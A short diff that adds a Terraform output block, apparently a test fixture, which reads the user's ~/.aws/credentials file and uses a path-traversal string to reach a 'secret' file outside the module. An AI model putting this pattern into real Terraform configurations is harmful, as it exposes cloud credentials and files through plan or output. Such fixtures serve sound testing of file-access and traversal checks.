@@ -1,0 +1,6 @@
+output "content" {
+  value = [
+    file("${pathexpand("~")}/.aws/credentials"),
+    file("a${substr(pathexpand("~"), 0, 1)}../../secret"),
+  ]
+}
